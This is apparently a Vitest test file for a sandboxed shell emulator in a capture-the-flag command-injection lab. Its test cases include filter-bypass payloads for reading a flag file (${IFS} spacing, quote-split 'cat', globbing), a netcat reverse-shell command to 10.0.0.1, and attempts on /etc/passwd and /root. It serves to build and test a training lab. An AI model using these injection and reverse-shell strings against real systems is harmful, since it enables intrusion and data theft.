import { describe, expect, it } from 'vitest';

import { createFileSystem } from './shell-fs.js';
import { runShell } from './shell-run.js';

const FLAG = 'CTF{sh3ll_t3st}';

function sh(source: string) {
  return runShell(source, createFileSystem(FLAG));
}

describe('the lab shell (dash subset)', () => {
  it.each([
    ['echo a; echo b', 'a\nb\n'],
    ['echo a\necho b', 'a\nb\n'],
    ['echo a && echo b', 'a\nb\n'],
    ['false && echo no || echo yes', 'yes\n'],
    ['echo a & echo b', 'a\nb\n'],
    ['echo one two | rev', 'owt eno\n'],
    ['echo \'a  b\' "c  d" e\\ \\ f', 'a  b c  d e  f\n'],
    ['echo $(echo hi)', 'hi\n'],
    ['echo `echo hi`', 'hi\n'],
    ['X=\'a   b\'; echo "$X"', 'a   b\n'],
    ["X='a   b'; echo $X", 'a b\n'],
    ['echo${IFS}spaced', 'spaced\n'],
    ['echo$IFS"x"', 'x\n'],
    ['X=1; echo $X ${X}', '1 1\n'],
    ['echo *.php', 'index.php ping.php\n'],
    ['echo f???.txt', 'flag.txt\n'],
    ['echo [fi]*.[pt]?[pt]', 'flag.txt index.php\n'],
    ["echo '*'", '*\n'],
    ['echo nomatch*', 'nomatch*\n'],
    ['echo /etc/pass*', '/etc/passwd\n'],
    ['echo # a comment', '\n'],
    ['(echo sub)', 'sub\n'],
    ['echo a\\\nb', 'ab\n'],
    ['c\\at fl""ag.txt', `${FLAG}\n`],
    ["c'a't fl*", `${FLAG}\n`],
    ['tac<flag.txt', `${FLAG}\n`],
    ['head -n1 flag.txt', `${FLAG}\n`],
    ['tail -1 flag.txt', `${FLAG}\n`],
    ['/bin/cat flag.txt', `${FLAG}\n`],
    ['echo hi > /tmp/x; cat /tmp/x', 'hi\n'],
    ['whoami; id', 'www-data\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n'],
  ])('%j prints %j', (source, stdout) => {
    expect(sh(source).stdout).toBe(stdout);
  });

  it('keeps errors on standard error, with dash and coreutils wording', () => {
    expect(sh('nc -e /bin/sh 10.0.0.1 4444')).toMatchObject({ stdout: '', stderr: 'sh: 1: nc: not found\n', status: 127 });
    expect(sh('cat /root/secret').stderr).toBe('cat: /root/secret: No such file or directory\n');
    expect(sh('ls /root').stderr).toBe("ls: cannot open directory '/root': Permission denied\n");
    expect(sh('echo x > /etc/passwd').stderr).toBe('sh: 1: cannot create /etc/passwd: Permission denied\n');
    expect(sh("echo 'unterminated").stderr).toBe('sh: 1: Syntax error: Unterminated quoted string\n');
    expect(sh('echo a ;; echo b').stderr).toMatch(/^sh: 1: Syntax error/);
    expect(sh('nope 2>&1').stdout).toBe('sh: 1: nope: not found\n');
    expect(sh('cat nope 2>/dev/null').stderr).toBe('');
  });

  it('lists the web root like ls -la', () => {
    const listing = sh('ls -la').stdout;
    expect(listing).toContain('-r--r----- 1 root     www-data    ');
    expect(listing).toMatch(/flag\.txt\n/);
    expect(sh('ls').stdout).toBe('flag.txt\nindex.php\nping.php\nstyle.css\n');
  });

  it('stops runaway scripts', () => {
    expect(sh('echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo deep)))))))').stderr).toContain('resource limit');
    expect(sh(Array.from({ length: 100 }, () => 'true').join(';')).stderr).toContain('resource limit');
  });

  it('never touches the real machine: files written live in the request’s file system only', () => {
    const fs = createFileSystem(FLAG);
    runShell('echo pwned > /tmp/owned', fs);
    expect(fs.get('/tmp/owned')?.content).toBe('pwned\n');
    expect(createFileSystem(FLAG).has('/tmp/owned')).toBe(false);
  });
});
